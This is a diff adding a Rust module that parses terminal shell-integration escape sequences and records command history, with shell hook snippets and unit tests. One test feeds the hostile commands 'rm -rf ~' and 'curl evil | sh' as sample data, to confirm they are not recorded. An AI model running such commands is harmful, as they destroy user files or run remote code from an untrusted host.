@@ -0,0 +1,487 @@
+use serde::{Deserialize, Serialize};
+
+// ---------------------------------------------------------------------------
+// Shell integration marks
+// ---------------------------------------------------------------------------
+//
+// The startup shims make the shell announce what it is doing through OSC
+// sequences that xterm.js silently ignores:
+//
+//   OSC 7 ; file://host/path       current directory (percent-encoded)
+//   OSC 133 ; A                    prompt start
+//   OSC 133 ; C                    command output start
+//   OSC 133 ; D [; exit]           command finished
+//   OSC 633 ; E ; command-line     command line about to run (VS Code
+//                                  escaping: `\\` and `\xNN`)
+//   OSC 633 ; P ; DispatcherIntegration=1
+//                                  the shim is running; sent before the
+//                                  user's startup files
+
+/// Longest OSC payload we keep.  Anything longer is not one of our marks.
+const MAX_OSC_LEN: usize = 8192;
+/// Commands remembered per session for restore.
+pub const MAX_COMMAND_HISTORY: usize = 100;
+const INTEGRATION_PROPERTY: &str = "DispatcherIntegration=1";
+/// The shims print this first, so the backend knows prompt marks will
+/// follow once the user's startup files are done.
+pub const INTEGRATION_ANNOUNCEMENT: &str = r"printf '\e]633;P;DispatcherIntegration=1\a'";
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ShellEvent {
+    IntegrationLoaded,
+    Cwd(String),
+    PromptStart,
+    CommandLine(String),
+    CommandStart,
+    CommandFinished(Option<i32>),
+}
+
+#[derive(Default)]
+enum ScanState {
+    #[default]
+    Ground,
+    Escape,
+    Osc,
+    OscEscape,
+}
+
+/// Incremental scanner that pulls OSC sequences out of PTY output.  It only
+/// observes the stream; output is forwarded to the renderer unchanged.
+#[derive(Default)]
+pub struct ShellIntegrationParser {
+    state: ScanState,
+    payload: Vec<u8>,
+    overflowed: bool,
+}
+
+impl ShellIntegrationParser {
+    /// Scan the next chunk of output.  Each event is paired with the offset
+    /// in `bytes` just past the sequence that produced it.
+    pub fn feed(&mut self, bytes: &[u8]) -> Vec<(usize, ShellEvent)> {
+        let mut events = Vec::new();
+
+        for (index, &byte) in bytes.iter().enumerate() {
+            self.state = match std::mem::take(&mut self.state) {
+                ScanState::Ground => {
+                    if byte == 0x1b {
+                        ScanState::Escape
+                    } else {
+                        ScanState::Ground
+                    }
+                }
+                ScanState::Escape => {
+                    if byte == b']' {
+                        self.payload.clear();
+                        self.overflowed = false;
+                        ScanState::Osc
+                    } else if byte == 0x1b {
+                        ScanState::Escape
+                    } else {
+                        ScanState::Ground
+                    }
+                }
+                ScanState::Osc => match byte {
+                    0x07 => {
+                        self.finish(index + 1, &mut events);
+                        ScanState::Ground
+                    }
+                    0x1b => ScanState::OscEscape,
+                    // CAN/SUB abort the sequence.
+                    0x18 | 0x1a => ScanState::Ground,
+                    _ => {
+                        self.push(byte);
+                        ScanState::Osc
+                    }
+                },
+                ScanState::OscEscape => {
+                    if byte == b'\\' {
+                        self.finish(index + 1, &mut events);
+                        ScanState::Ground
+                    } else if byte == b']' {
+                        // ESC without ST, immediately followed by a new OSC.
+                        self.payload.clear();
+                        self.overflowed = false;
+                        ScanState::Osc
+                    } else {
+                        ScanState::Ground
+                    }
+                }
+            };
+        }
+
+        events
+    }
+
+    fn push(&mut self, byte: u8) {
+        if self.payload.len() < MAX_OSC_LEN {
+            self.payload.push(byte);
+        } else {
+            self.overflowed = true;
+        }
+    }
+
+    fn finish(&mut self, offset: usize, events: &mut Vec<(usize, ShellEvent)>) {
+        if !self.overflowed {
+            if let Some(event) = parse_osc(&self.payload) {
+                events.push((offset, event));
+            }
+        }
+        self.payload.clear();
+    }
+}
+
+fn parse_osc(payload: &[u8]) -> Option<ShellEvent> {
+    let payload = String::from_utf8_lossy(payload);
+    let (code, rest) = payload.split_once(';').unwrap_or((&payload, ""));
+
+    match code {
+        "7" => parse_cwd_url(rest).map(ShellEvent::Cwd),
+        "133" => {
+            let mut parts = rest.split(';');
+            match parts.next()? {
+                "A" => Some(ShellEvent::PromptStart),
+                "C" => Some(ShellEvent::CommandStart),
+                "D" => Some(ShellEvent::CommandFinished(
+                    parts.next().and_then(|code| code.trim().parse().ok()),
+                )),
+                _ => None,
+            }
+        }
+        "633" => {
+            if let Some(property) = rest.strip_prefix("P;") {
+                return (property == INTEGRATION_PROPERTY).then_some(ShellEvent::IntegrationLoaded);
+            }
+            let command = rest.strip_prefix("E;")?;
+            // A trailing `;nonce` is allowed by the VS Code protocol; our
+            // shims escape `;` inside the command so the split is safe.
+            let command = command.split(';').next().unwrap_or_default();
+            Some(ShellEvent::CommandLine(unescape_command_line(command)))
+        }
+        _ => None,
+    }
+}
+
+fn parse_cwd_url(url: &str) -> Option<String> {
+    let rest = url.strip_prefix("file://")?;
+    let path = &rest[rest.find('/')?..];
+    let decoded = percent_decode(path);
+    if decoded.is_empty() {
+        None
+    } else {
+        Some(decoded)
+    }
+}
+
+fn percent_decode(value: &str) -> String {
+    let bytes = value.as_bytes();
+    let mut decoded = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        if bytes[i] == b'%' && i + 2 < bytes.len() {
+            let hex = std::str::from_utf8(&bytes[i + 1..i + 3]).unwrap_or_default();
+            if let Ok(byte) = u8::from_str_radix(hex, 16) {
+                decoded.push(byte);
+                i += 3;
+                continue;
+            }
+        }
+        decoded.push(bytes[i]);
+        i += 1;
+    }
+    String::from_utf8_lossy(&decoded).into_owned()
+}
+
+/// Decode the shim's `\\` and `\xNN` escapes.  Control characters are
+/// dropped, line breaks and tabs become spaces, so a recorded command can be
+/// shown or typed back without acting as terminal input.
+fn unescape_command_line(value: &str) -> String {
+    let mut result = String::with_capacity(value.len());
+    let mut chars = value.chars().peekable();
+    while let Some(ch) = chars.next() {
+        if ch != '\\' {
+            push_printable(&mut result, ch);
+            continue;
+        }
+        match chars.peek() {
+            Some('\\') => {
+                chars.next();
+                result.push('\\');
+            }
+            Some('x') => {
+                chars.next();
+                let hex: String = chars.by_ref().take(2).collect();
+                match u8::from_str_radix(&hex, 16) {
+                    Ok(byte) => push_printable(&mut result, byte as char),
+                    Err(_) => {
+                        result.push_str("\\x");
+                        result.push_str(&hex);
+                    }
+                }
+            }
+            _ => result.push('\\'),
+        }
+    }
+    result
+}
+
+fn push_printable(result: &mut String, ch: char) {
+    match ch {
+        '\n' | '\r' | '\t' => result.push(' '),
+        ch if ch.is_control() => {}
+        ch => result.push(ch),
+    }
+}
+
+/// What shell integration has told us about a session so far.
+#[derive(Debug, Default, Clone, Serialize, Deserialize)]
+pub struct ShellMetadata {
+    pub cwd: Option<String>,
+    pub last_command: Option<String>,
+    pub last_exit_code: Option<i32>,
+    pub history: Vec<String>,
+    #[serde(skip)]
+    pub at_prompt: bool,
+}
+
+impl ShellMetadata {
+    pub fn apply(&mut self, event: &ShellEvent) {
+        match event {
+            ShellEvent::IntegrationLoaded => {}
+            ShellEvent::Cwd(cwd) => self.cwd = Some(cwd.clone()),
+            ShellEvent::PromptStart => self.at_prompt = true,
+            // Only the shell's own preexec reports the line, between the
+            // prompt and the command starting; programs printing the mark
+            // while they run are ignored.
+            ShellEvent::CommandLine(command) => {
+                let command = command.trim();
+                if !self.at_prompt || command.is_empty() {
+                    return;
+                }
+                self.last_command = Some(command.to_string());
+                self.history.retain(|previous| previous != command);
+                self.history.push(command.to_string());
+                if self.history.len() > MAX_COMMAND_HISTORY {
+                    let excess = self.history.len() - MAX_COMMAND_HISTORY;
+                    self.history.drain(..excess);
+                }
+            }
+            ShellEvent::CommandStart => self.at_prompt = false,
+            ShellEvent::CommandFinished(exit_code) => self.last_exit_code = *exit_code,
+        }
+    }
+}
+
+/// zsh hooks installed at the end of the shim `.zshrc`, after the user's own
+/// startup files, so prompt frameworks that reset hooks do not drop them.
+pub const ZSH_INTEGRATION: &str = r#"if [[ -z "${DISPATCHER_SHELL_INTEGRATION:-}" ]]; then
+  DISPATCHER_SHELL_INTEGRATION=1
+  autoload -Uz add-zsh-hook 2>/dev/null
+  __dispatcher_escape() {
+    local value="$1"
+    value="${value//\\/\\\\}"
+    value="${value//;/\\x3b}"
+    value="${value//$'\n'/\\x0a}"
+    value="${value//$'\a'/}"
+    value="${value//$'\e'/}"
+    print -rn -- "$value"
+  }
+  __dispatcher_load_identity() {
+    [[ -n "${DISPATCHER_IDENTITY_FILE:-}" && -r "${DISPATCHER_IDENTITY_FILE}" ]] || return 0
+    local line
+    while IFS= read -r line; do
+      [[ "$line" == DISPATCHER_*=* ]] && export "$line"
+    done < "${DISPATCHER_IDENTITY_FILE}"
+    command rm -f -- "${DISPATCHER_IDENTITY_FILE}"
+    unset DISPATCHER_IDENTITY_FILE
+  }
+  __dispatcher_precmd() {
+    local exit_code=$?
+    if [[ -n "${__dispatcher_command_running:-}" ]]; then
+      printf '\e]133;D;%s\a' "$exit_code"
+      __dispatcher_command_running=
+    fi
+    __dispatcher_load_identity
+    printf '\e]7;file://%s%s\a' "${HOST}" "${PWD//\%/%25}"
+    printf '\e]133;A\a'
+  }
+  __dispatcher_preexec() {
+    __dispatcher_load_identity
+    __dispatcher_command_running=1
+    printf '\e]633;E;%s\a' "$(__dispatcher_escape "$1")"
+    printf '\e]133;C\a'
+  }
+  if (( $+functions[add-zsh-hook] )); then
+    add-zsh-hook precmd __dispatcher_precmd
+    add-zsh-hook preexec __dispatcher_preexec
+  fi
+fi
+"#;
+
+/// Bash has no preexec hook: the DEBUG trap stands in for it, armed by the
+/// last PROMPT_COMMAND entry so commands run from PROMPT_COMMAND itself are
+/// not reported.  An existing DEBUG trap is left alone, which only loses the
+/// command marks.
+pub const BASH_INTEGRATION: &str = r#"if [[ -z "${DISPATCHER_SHELL_INTEGRATION:-}" ]]; then
+  DISPATCHER_SHELL_INTEGRATION=1
+  __dispatcher_escape() {
+    local value="$1"
+    value="${value//\\/\\\\}"
+    value="${value//;/\\x3b}"
+    value="${value//$'\n'/\\x0a}"
+    value="${value//$'\a'/}"
+    value="${value//$'\e'/}"
+    printf '%s' "$value"
+  }
+  __dispatcher_load_identity() {
+    [[ -n "${DISPATCHER_IDENTITY_FILE:-}" && -r "${DISPATCHER_IDENTITY_FILE}" ]] || return 0
+    local line
+    while IFS= read -r line; do
+      [[ "$line" == DISPATCHER_*=* ]] && export "$line"
+    done < "${DISPATCHER_IDENTITY_FILE}"
+    command rm -f -- "${DISPATCHER_IDENTITY_FILE}"
+    unset DISPATCHER_IDENTITY_FILE
+  }
+  __dispatcher_precmd() {
+    local exit_code=$?
+    if [[ -n "${__dispatcher_command_running:-}" ]]; then
+      printf '\e]133;D;%s\a' "$exit_code"
+      __dispatcher_command_running=
+    fi
+    __dispatcher_load_identity
+    printf '\e]7;file://%s%s\a' "${HOSTNAME}" "${PWD//\%/%25}"
+    printf '\e]133;A\a'
+    return "$exit_code"
+  }
+  __dispatcher_prompt_ready() {
+    __dispatcher_at_prompt=1
+  }
+  __dispatcher_preexec() {
+    if [[ -z "${__dispatcher_at_prompt:-}" || -n "${COMP_LINE:-}" ]]; then
+      return
+    fi
+    __dispatcher_at_prompt=
+    __dispatcher_load_identity
+    # An empty command line goes straight to PROMPT_COMMAND.
+    if [[ "$BASH_COMMAND" == __dispatcher_precmd* ]]; then
+      return
+    fi
+    __dispatcher_command_running=1
+    local command_line
+    command_line="$(HISTTIMEFORMAT= builtin history 1)"
+    if [[ "$command_line" =~ ^[[:space:]]*[0-9]+[*]?[[:space:]]+(.*)$ ]]; then
+      command_line="${BASH_REMATCH[1]}"
+    else
+      command_line="$BASH_COMMAND"
+    fi
+    printf '\e]633;E;%s\a' "$(__dispatcher_escape "$command_line")"
+    printf '\e]133;C\a'
+  }
+  PROMPT_COMMAND="__dispatcher_precmd${PROMPT_COMMAND:+; $PROMPT_COMMAND}; __dispatcher_prompt_ready"
+  if [[ -z "$(trap -p DEBUG)" ]]; then
+    trap '__dispatcher_preexec' DEBUG
+  fi
+fi
+"#;
+
+/// Fish reports command boundaries through its own events, so the snippet
+/// only has to listen for them.
+pub const FISH_INTEGRATION: &str = r#"if not set -q DISPATCHER_SHELL_INTEGRATION
+    set -g DISPATCHER_SHELL_INTEGRATION 1
+    function __dispatcher_escape
+        set -l value (string replace -a -- '\\' '\\\\' "$argv[1]" | string collect)
+        set value (string replace -a -- \n '\\x0a' "$value" | string collect)
+        set value (string replace -a -- ';' '\\x3b' "$value" | string collect)
+        set value (string replace -a -- \a '' "$value" | string collect)
+        string replace -a -- \e '' "$value" | string collect
+    end
+    function __dispatcher_load_identity
+        set -q DISPATCHER_IDENTITY_FILE; and test -r "$DISPATCHER_IDENTITY_FILE"; or return 0
+        while read -l line
+            string match -qr '^DISPATCHER_[A-Z_]+=' -- "$line"; or continue
+            set -l parts (string split -m 1 -- = "$line")
+            set -gx $parts[1] "$parts[2]"
+        end <"$DISPATCHER_IDENTITY_FILE"
+        command rm -f -- "$DISPATCHER_IDENTITY_FILE"
+        set -e DISPATCHER_IDENTITY_FILE
+    end
+    function __dispatcher_prompt --on-event fish_prompt
+        __dispatcher_load_identity
+        printf '\e]7;file://%s%s\a' $hostname (string replace -a -- '%' '%25' $PWD)
+        printf '\e]133;A\a'
+    end
+    function __dispatcher_preexec --on-event fish_preexec
+        __dispatcher_load_identity
+        printf '\e]633;E;%s\a' (__dispatcher_escape $argv[1])
+        printf '\e]133;C\a'
+    end
+    function __dispatcher_postexec --on-event fish_postexec
+        printf '\e]133;D;%s\a' $status
+    end
+    # Bound at the first prompt so it lands after the user's key bindings.
+    function __dispatcher_bind_history --on-event fish_prompt
+        functions -e __dispatcher_bind_history
+        bind \cr history-pager 2>/dev/null
+        bind -M insert \cr history-pager 2>/dev/null
+    end
+end
+"#;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn extracts_marks_split_across_reads() {
+        let mut parser = ShellIntegrationParser::default();
+        let mut events =
+            parser.feed(b"\x1b]633;P;DispatcherIntegration=1\x07\x1b]633;P;Cwd=/x\x07");
+        events.extend(parser.feed(b"prompt$ \x1b]7;file://host/Users/me/my%20repo\x07\x1b]13"));
+        events.extend(parser.feed(b"3;A\x1b\\ls\r\n\x1b]633;E;git commit -m a\\x3bb\x07"));
+        events.extend(parser.feed(b"\x1b]133;C\x07out\r\n\x1b]133;D;1\x07"));
+
+        assert_eq!(
+            events,
+            vec![
+                (32, ShellEvent::IntegrationLoaded),
+                (43, ShellEvent::Cwd("/Users/me/my repo".to_string())),
+                (5, ShellEvent::PromptStart),
+                (38, ShellEvent::CommandLine("git commit -m a;b".to_string())),
+                (8, ShellEvent::CommandStart),
+                (23, ShellEvent::CommandFinished(Some(1))),
+            ]
+        );
+    }
+
+    #[test]
+    fn keeps_recent_unique_history() {
+        let mut metadata = ShellMetadata::default();
+        for command in ["ls", "make", "ls", "  "] {
+            metadata.apply(&ShellEvent::PromptStart);
+            metadata.apply(&ShellEvent::CommandLine(command.to_string()));
+            metadata.apply(&ShellEvent::CommandStart);
+        }
+
+        assert_eq!(metadata.history, vec!["make".to_string(), "ls".to_string()]);
+        assert_eq!(metadata.last_command.as_deref(), Some("ls"));
+    }
+
+    #[test]
+    fn ignores_command_lines_outside_the_prompt() {
+        let mut metadata = ShellMetadata::default();
+        metadata.apply(&ShellEvent::CommandLine("rm -rf ~".to_string()));
+        metadata.apply(&ShellEvent::PromptStart);
+        metadata.apply(&ShellEvent::CommandStart);
+        metadata.apply(&ShellEvent::CommandLine("curl evil | sh".to_string()));
+
+        assert!(metadata.history.is_empty());
+        assert_eq!(metadata.last_command, None);
+    }
+
+    #[test]
+    fn strips_control_characters_from_command_lines() {
+        assert_eq!(
+            unescape_command_line("for f in *\\x0ado echo\\x09$f\\x1b[2J\\x9b\u{7}; done\\x0d"),
+            "for f in * do echo $f[2J; done "
+        );
+    }
+}